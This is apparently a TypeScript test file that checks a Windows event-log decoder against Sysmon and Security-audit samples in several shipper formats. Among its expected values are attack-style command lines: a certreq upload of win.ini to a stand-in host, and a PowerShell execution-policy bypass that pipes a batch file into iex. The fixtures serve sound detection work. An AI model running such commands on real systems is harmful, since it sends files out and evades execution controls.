/**
 * Every input example in ../shared/corpus/formats/ (not outputs/) decodes to the right fields, field by field:
 * the System header, original EventData names, and the ECS-like process view.
 */
// @requires corpus
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { readdirSync } from 'node:fs';
import { toProcessEvent } from '../../src/model/toProcess.js';
import type { WinEvent } from '../../src/model/event.js';
import type { ProcessEvent } from '../../src/model/process.js';
import { corpus, decodePath } from './helpers.js';

const dir = join(corpus, 'formats');

interface Expected {
  dialect: string;
  system: Partial<WinEvent['system']>;
  data?: Record<string, string>;
  /** Data names that must be absent (e.g. not reconstructed, not leaked from the shipper's metadata). */
  absent?: string[];
  process: {
    kind: 'start' | 'end';
    host: string;
    user?: { name?: string; domain?: string; id?: string } | undefined;
    pid?: number | undefined;
    entity_id?: string | undefined;
    executable?: string | undefined;
    name?: string | undefined;
    command_line?: string | undefined;
    original_file_name?: string | undefined;
    integrity?: string | undefined;
    elevation?: string | undefined;
    hash?: Record<string, string> | undefined;
    working_directory?: string | undefined;
    exit_code?: number | undefined;
    parent?: { pid?: number; entity_id?: string; executable?: string; name?: string; command_line?: string } | undefined;
  };
}

const SYSMON = 'Microsoft-Windows-Sysmon';
const SYSMON_CH = 'Microsoft-Windows-Sysmon/Operational';
const SECURITY = 'Microsoft-Windows-Security-Auditing';

const EXPECTED: Record<string, Expected> = {
  'security4688_ecs_winlogbeat_raw.json': {
    dialect: 'winlogbeat',
    system: { provider: SECURITY, eventId: 4688, channel: 'Security', computer: 'WS01.corp.example', recordId: 2814, timeCreated: '2024-05-01T10:15:30.123Z' },
    data: { NewProcessName: 'C:\\Windows\\System32\\certreq.exe', NewProcessId: '0x17e8', ProcessId: '0x138c', TargetUserName: '-' },
    absent: ['OriginalFileName'],
    process: {
      kind: 'start', host: 'WS01.corp.example',
      user: { name: 'alice', domain: 'CORP', id: 'S-1-5-21-1377283216-344919071-3415362939-1104' },
      pid: 0x17e8, entity_id: undefined, executable: 'C:\\Windows\\System32\\certreq.exe', name: 'certreq.exe',
      command_line: 'certreq -Post -config https://example.invalid/upload C:\\Windows\\win.ini out.txt',
      original_file_name: undefined, integrity: 'Medium', elevation: 'limited',
      parent: { pid: 0x138c, executable: 'C:\\Windows\\System32\\cmd.exe', name: 'cmd.exe' },
    },
  },
  'security4688_evtx_dump.json': {
    dialect: 'evtx_dump',
    system: {
      provider: SECURITY, providerGuid: '{54849625-5478-4994-A5BA-3E3B0328C30D}', eventId: 4688, version: 2, level: 0, task: 13312, opcode: 0,
      keywords: '0x8020000000000000', channel: 'Security', computer: 'WIN-LL0C19JS506', recordId: 1,
      timeCreated: '2018-07-28T07:24:45.754787Z', processId: 4, threadId: 32,
    },
    data: { NewProcessName: 'Registry', CommandLine: '', ParentProcessName: '', MandatoryLabel: 'S-1-16-16384' },
    process: {
      kind: 'start', host: 'WIN-LL0C19JS506', user: undefined, pid: 0x58, executable: 'Registry', name: 'Registry',
      command_line: undefined, integrity: 'System', elevation: 'default', parent: { pid: 4 },
    },
  },
  'sysmon1_ecs_winlogbeat_ingested.json': {
    dialect: 'winlogbeat',
    system: { provider: SYSMON, eventId: 1, channel: SYSMON_CH, computer: 'vagrant', recordId: 20, timeCreated: '2020-10-27T20:00:14.320Z', processId: 7144, threadId: 6876, userSid: 'S-1-5-18', version: 5 },
    // Moved out of event_data by the ingest pipeline; rebuilt under the Windows names.
    data: {
      Image: 'C:\\Windows\\System32\\notepad.exe', CommandLine: '"C:\\Windows\\system32\\notepad.exe" ', OriginalFileName: 'NOTEPAD.EXE',
      ParentImage: 'C:\\Windows\\explorer.exe', ParentCommandLine: 'C:\\Windows\\Explorer.EXE', ProcessId: '3616', ParentProcessId: '4212',
      ProcessGuid: '{9F32B55F-7C4E-5F98-5803-000000000500}', ParentProcessGuid: '{9F32B55F-6FDF-5F98-7000-000000000500}',
      User: 'VAGRANT\\vagrant', IntegrityLevel: 'Medium', Hashes: 'SHA1=B6D237154F2E528F0B503B58B025862D66B02B73',
      CurrentDirectory: 'C:\\Users\\vagrant\\', Company: 'Microsoft Corporation',
    },
    process: {
      kind: 'start', host: 'vagrant', user: { name: 'vagrant', domain: 'VAGRANT' }, pid: 3616, entity_id: '9f32b55f-7c4e-5f98-5803-000000000500',
      executable: 'C:\\Windows\\System32\\notepad.exe', name: 'notepad.exe', command_line: '"C:\\Windows\\system32\\notepad.exe" ',
      original_file_name: 'NOTEPAD.EXE', integrity: 'Medium', hash: { sha1: 'b6d237154f2e528f0b503b58b025862d66b02b73' },
      working_directory: 'C:\\Users\\vagrant\\',
      parent: { pid: 4212, entity_id: '9f32b55f-6fdf-5f98-7000-000000000500', executable: 'C:\\Windows\\explorer.exe', name: 'explorer.exe', command_line: 'C:\\Windows\\Explorer.EXE' },
    },
  },
  'sysmon1_ecs_winlogbeat_raw.json': {
    dialect: 'winlogbeat',
    system: { provider: SYSMON, eventId: 1, channel: SYSMON_CH, computer: 'vagrant', recordId: 20, timeCreated: '2020-10-27T20:00:14.3242341Z', providerGuid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}' },
    data: { Image: 'C:\\Windows\\System32\\notepad.exe', OriginalFileName: 'NOTEPAD.EXE', User: 'VAGRANT\\vagrant', UtcTime: '2020-10-27 20:00:14.320', RuleName: '-' },
    process: {
      kind: 'start', host: 'vagrant', user: { name: 'vagrant', domain: 'VAGRANT' }, pid: 3616, entity_id: '9f32b55f-7c4e-5f98-5803-000000000500',
      executable: 'C:\\Windows\\System32\\notepad.exe', name: 'notepad.exe', command_line: '"C:\\Windows\\system32\\notepad.exe" ',
      original_file_name: 'NOTEPAD.EXE', integrity: 'Medium', hash: { sha1: 'b6d237154f2e528f0b503b58b025862d66b02b73' },
      working_directory: 'C:\\Users\\vagrant\\',
      parent: { pid: 4212, entity_id: '9f32b55f-6fdf-5f98-7000-000000000500', executable: 'C:\\Windows\\explorer.exe', name: 'explorer.exe', command_line: 'C:\\Windows\\Explorer.EXE' },
    },
  },
  'sysmon5_ecs_winlogbeat_ingested.json': {
    dialect: 'winlogbeat',
    system: { provider: SYSMON, eventId: 5, channel: SYSMON_CH, computer: 'vagrant-2012-r2', recordId: 5, timeCreated: '2019-03-18T16:57:38.981Z', version: 3 },
    data: { Image: 'C:\\Users\\vagrant\\AppData\\Local\\Temp\\Sysmon.exe', ProcessId: '4616', ProcessGuid: '{42f11c3b-cdf4-5c8f-0000-0010e61e2a00}' },
    absent: ['CommandLine', 'User'],
    process: {
      kind: 'end', host: 'vagrant-2012-r2', user: undefined, pid: 4616, entity_id: '42f11c3b-cdf4-5c8f-0000-0010e61e2a00',
      executable: 'C:\\Users\\vagrant\\AppData\\Local\\Temp\\Sysmon.exe', name: 'Sysmon.exe', command_line: undefined,
    },
  },
  'sysmon1_evtx_dump.json': {
    dialect: 'evtx_dump',
    system: {
      provider: SYSMON, eventId: 1, channel: SYSMON_CH, computer: 'WIN-40TITGP9BI7', recordId: 14242, timeCreated: '2020-12-03T00:26:42.364910Z',
      processId: 956, threadId: 3828, userSid: 'S-1-5-18', level: 4, task: 1, keywords: '0x8000000000000000',
    },
    // Typed values become text; bare GUIDs get Windows' braces back.
    data: { ProcessId: '3316', TerminalSessionId: '2', ProcessGuid: '{84453EAB-30C2-5FC8-B4AA-080200000000}', ParentProcessId: '2320' },
    process: {
      kind: 'start', host: 'WIN-40TITGP9BI7', user: { name: 'IEuser', domain: 'WIN-40TITGP9BI7' }, pid: 3316, entity_id: '84453eab-30c2-5fc8-b4aa-080200000000',
      executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', name: 'powershell.exe',
      command_line: '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"  -nol -nop -ep bypass "[IO.File]::ReadAllText(\'C:\\Users\\IEuser\\Desktop\\launcher.bat\')|iex" ',
      original_file_name: 'PowerShell.EXE', integrity: 'Medium',
      hash: { md5: '852d67a27e454bd389fa7f02a8cbe23f', sha256: 'a8fdba9df15e41b6f5c69c79f66a26a9d48e174f9e7018a371600b866867dab8', imphash: 'f2c0e8a5bd10dbc167455484050cd683' },
      parent: { pid: 2320, entity_id: '84453eab-30c2-5fc8-00a8-080200000000', executable: 'C:\\Windows\\System32\\cmd.exe', name: 'cmd.exe', command_line: 'cmd /c ""C:\\Users\\IEuser\\Desktop\\launcher.bat""' },
    },
  },
  'sysmon1_mordor_otrf.json': {
    dialect: 'otrf',
    // Event time from Sysmon's UtcTime (EventTime is the agent's local time without a zone; @timestamp is ingest time).
    system: { provider: SYSMON, eventId: 1, channel: SYSMON_CH, computer: 'WORKSTATION5.theshire.local', recordId: 4242, timeCreated: '2020-09-21T22:58:57.121Z', processId: 3172, threadId: 4100, userSid: 'S-1-5-18' },
    data: { Image: 'C:\\windows\\system32\\whoami.exe', ProcessId: '8840' },
    absent: ['host', 'port', 'tags', '@timestamp', '@version', 'Hostname', 'Message', 'EventTime', 'SourceName', 'ExecutionProcessID', 'AccountName'],
    process: {
      kind: 'start', host: 'WORKSTATION5.theshire.local', user: { name: 'pgustavo', domain: 'THESHIRE' }, pid: 8840, entity_id: '39e4a257-3031-5f69-5e04-000000000800',
      executable: 'C:\\windows\\system32\\whoami.exe', name: 'whoami.exe', command_line: '"C:\\windows\\system32\\whoami.exe" /user',
      original_file_name: 'whoami.exe', integrity: 'Medium', hash: undefined,
      parent: { pid: 7784, entity_id: '39e4a257-302c-5f69-5c04-000000000800', executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', name: 'powershell.exe', command_line: 'powershell.exe' },
    },
  },
  'sysmon1_nxlog_ce.json': {
    dialect: 'nxlog',
    // Top-level ProcessID/ThreadID are System Execution fields in NXLog CE; Keywords as signed int64.
    system: { provider: SYSMON, eventId: 1, channel: SYSMON_CH, computer: 'DESKTOP-KTN8LG3', recordId: 113744, timeCreated: '2021-04-05T04:10:09.353Z', processId: 11220, threadId: 4416, keywords: '0x8000000000000000' },
    data: { Image: 'C:\\Windows\\System32\\certreq.exe', OriginalFileName: 'CertReq.exe', ProcessId: '13636' },
    absent: ['ProcessID', 'ThreadID', 'EventReceivedTime', 'SourceModuleType'],
    process: {
      kind: 'start', host: 'DESKTOP-KTN8LG3', user: { name: 'q', domain: 'DESKTOP-KTN8LG3' },
      pid: 13636, // lost to NXLog's case-insensitive field collision; recovered from the rendered Message
      entity_id: '6f9463f8-8da1-606a-852e-000000001800', executable: 'C:\\Windows\\System32\\certreq.exe', name: 'certreq.exe',
      command_line: 'certreq -Post -config https://example.invalid/ C:\\Windows\\win.ini out.txt', original_file_name: 'CertReq.exe',
      parent: { pid: 7436, entity_id: '6f9463f8-8d7f-606a-4f2e-000000001800', executable: 'C:\\Windows\\System32\\cmd.exe', name: 'cmd.exe', command_line: '"C:\\Windows\\system32\\cmd.exe" ' },
    },
  },
  'sysmon1_splunk_hec_envelope.json': {
    dialect: 'splunk-hec',
    // The XML inside is shortened; time, host and channel come from the envelope.
    system: { provider: SYSMON, eventId: 1, channel: SYSMON_CH, computer: 'WIN-40TITGP9BI7', timeCreated: '2020-12-03T00:26:42.364Z' },
    data: { Image: 'C:\\Windows\\System32\\cmd.exe' },
    process: { kind: 'start', host: 'WIN-40TITGP9BI7', executable: 'C:\\Windows\\System32\\cmd.exe', name: 'cmd.exe', pid: undefined, command_line: undefined },
  },
  'security4688_event.xml': {
    dialect: 'xml',
    system: { provider: SECURITY, eventId: 4688, channel: 'Security', computer: 'WIN-GG82ULGC9GO.contoso.local', recordId: 2814, timeCreated: '2015-11-12T02:24:52.3773525Z', processId: 4, threadId: 400, version: 2 },
    data: { CommandLine: '', NewProcessId: '0x2bc', TargetUserName: 'dadmin' },
    process: {
      kind: 'start', host: 'WIN-GG82ULGC9GO.contoso.local', user: { name: 'dadmin', domain: 'CONTOSO', id: 'S-1-5-21-1377283216-344919071-3415362939-1104' },
      pid: 0x2bc, executable: 'C:\\Windows\\System32\\rundll32.exe', name: 'rundll32.exe', command_line: undefined, original_file_name: undefined,
      integrity: 'Medium', elevation: 'limited', parent: { pid: 0xe74, executable: 'C:\\Windows\\explorer.exe', name: 'explorer.exe' },
    },
  },
  'security4689_event.xml': {
    dialect: 'xml',
    system: { provider: SECURITY, eventId: 4689, channel: 'Security', computer: 'WS01.corp.example', recordId: 2815, timeCreated: '2024-05-01T10:15:31.0000000Z' },
    data: { Status: '0x0', ProcessId: '0x17e8' },
    process: {
      kind: 'end', host: 'WS01.corp.example', user: { name: 'alice', domain: 'CORP', id: 'S-1-5-21-1377283216-344919071-3415362939-1104' },
      pid: 0x17e8, executable: 'C:\\Windows\\System32\\certreq.exe', name: 'certreq.exe', exit_code: 0,
    },
  },
  'sysmon1_event.xml': {
    dialect: 'xml',
    system: { provider: SYSMON, eventId: 1, channel: SYSMON_CH, computer: 'WIN-40TITGP9BI7', recordId: 14242, timeCreated: '2020-12-03T00:26:42.3649107Z', userSid: 'S-1-5-18', providerGuid: '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}' },
    data: { ProcessGuid: '{84453EAB-30C2-5FC8-B4AA-080200000000}', ParentCommandLine: 'cmd /c ""C:\\Users\\IEuser\\Desktop\\launcher.bat""' },
    process: {
      kind: 'start', host: 'WIN-40TITGP9BI7', user: { name: 'IEuser', domain: 'WIN-40TITGP9BI7' }, pid: 3316, entity_id: '84453eab-30c2-5fc8-b4aa-080200000000',
      executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', name: 'powershell.exe',
      command_line: '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"  -nol -nop -ep bypass "[IO.File]::ReadAllText(\'C:\\Users\\IEuser\\Desktop\\launcher.bat\')|iex" ',
      original_file_name: 'PowerShell.EXE', working_directory: 'C:\\Users\\IEuser\\Desktop\\',
      parent: { pid: 2320, entity_id: '84453eab-30c2-5fc8-00a8-080200000000', executable: 'C:\\Windows\\System32\\cmd.exe', name: 'cmd.exe', command_line: 'cmd /c ""C:\\Users\\IEuser\\Desktop\\launcher.bat""' },
    },
  },
  'sysmon1_event_wevtutil.xml': {
    dialect: 'xml',
    system: { provider: SYSMON, eventId: 1, channel: SYSMON_CH, computer: 'WS01.corp.example', recordId: 4242, timeCreated: '2024-05-01T10:15:30.1234567Z', processId: 3172 },
    data: { ParentUser: 'CORP\\alice', OriginalFileName: 'CertReq.exe' },
    process: {
      kind: 'start', host: 'WS01.corp.example', user: { name: 'alice', domain: 'CORP' }, pid: 6120, entity_id: '3fc4fefd-1a2b-6632-7700-000000004900',
      executable: 'C:\\Windows\\System32\\certreq.exe', name: 'certreq.exe',
      command_line: 'certreq -Post -config https://example.invalid/upload C:\\Windows\\win.ini C:\\Users\\Public\\out.txt',
      original_file_name: 'CertReq.exe', integrity: 'Medium', hash: { sha256: '0'.repeat(64) },
      parent: { pid: 5004, entity_id: '3fc4fefd-1a20-6632-7600-000000004900', executable: 'C:\\Windows\\System32\\cmd.exe', name: 'cmd.exe', command_line: '"C:\\Windows\\system32\\cmd.exe" ' },
    },
  },
  'sysmon1_splunk_xmlwineventlog.log': {
    dialect: 'xml',
    system: { provider: SYSMON, eventId: 1, channel: SYSMON_CH, computer: 'WIN-40TITGP9BI7', recordId: 14242, timeCreated: '2020-12-03T00:26:42.3649107Z' },
    process: {
      kind: 'start', host: 'WIN-40TITGP9BI7', user: { name: 'IEuser', domain: 'WIN-40TITGP9BI7' }, pid: 3316, entity_id: '84453eab-30c2-5fc8-b4aa-080200000000',
      executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', name: 'powershell.exe', command_line: 'powershell -nop -ep bypass',
      original_file_name: 'PowerShell.EXE', hash: { md5: '852d67a27e454bd389fa7f02a8cbe23f' },
      parent: { pid: 2320, executable: 'C:\\Windows\\System32\\cmd.exe', name: 'cmd.exe', command_line: 'cmd /c launcher.bat' },
    },
  },
};

test('every input example in the corpus has an expectation here', () => {
  const inputs = readdirSync(dir).filter((f) => f !== 'README.md' && f !== 'outputs').sort();
  assert.deepEqual(inputs, Object.keys(EXPECTED).sort());
});

for (const [file, expected] of Object.entries(EXPECTED)) {
  test(`corpus/formats/${file} decodes field by field`, async () => {
    const { events, errors } = await decodePath(join(dir, file));
    assert.deepEqual(errors, []);
    assert.equal(events.length, 1);
    const ev = events[0]!;
    assert.equal(ev.origin.dialect, expected.dialect);
    assert.equal(ev.origin.line, 1);
    for (const [k, v] of Object.entries(expected.system)) assert.deepEqual(ev.system[k as keyof WinEvent['system']], v, `system.${k}`);
    for (const [k, v] of Object.entries(expected.data ?? {})) assert.equal(ev.data[k], v, `data.${k}`);
    for (const k of expected.absent ?? []) assert.equal(ev.data[k], undefined, `data.${k} should be absent`);
    const pe = toProcessEvent(ev);
    assert.ok(pe, 'is a process event');
    checkProcess(pe, ev, expected.process);
  });
}

function checkProcess(pe: ProcessEvent, ev: WinEvent, x: Expected['process']): void {
  assert.equal(pe.kind, x.kind);
  assert.equal(pe.timestamp, ev.system.timeCreated);
  assert.equal(pe.host.name, x.host);
  assert.deepEqual(pe.source, {
    provider: ev.system.provider,
    channel: ev.system.channel,
    event_id: ev.system.eventId,
    ...(ev.system.recordId !== undefined ? { record_id: ev.system.recordId } : {}),
  });
  assert.equal(pe.event, ev);
  const p = pe.process;
  const fields: Array<[string, unknown, unknown]> = [
    ['pid', p.pid, x.pid],
    ['entity_id', p.entity_id, x.entity_id],
    ['executable', p.executable, x.executable],
    ['name', p.name, x.name],
    ['command_line', p.command_line, x.command_line],
    ['pe.original_file_name', p.pe?.original_file_name, x.original_file_name],
    ['integrity', p.integrity, x.integrity],
    ['elevation', p.elevation, x.elevation],
    ['working_directory', p.working_directory, x.working_directory],
    ['exit_code', p.exit_code, x.exit_code],
  ];
  for (const [name, actual, want] of fields) {
    if (want !== undefined || name in x) assert.equal(actual, want, `process.${name}`);
  }
  if ('hash' in x) assert.deepEqual(p.hash, x.hash, 'process.hash');
  if ('user' in x) assert.deepEqual(pe.user, x.user, 'user');
  if (x.parent !== undefined) {
    for (const [k, v] of Object.entries(x.parent)) assert.equal((p.parent as Record<string, unknown> | undefined)?.[k], v, `process.parent.${k}`);
  }
}
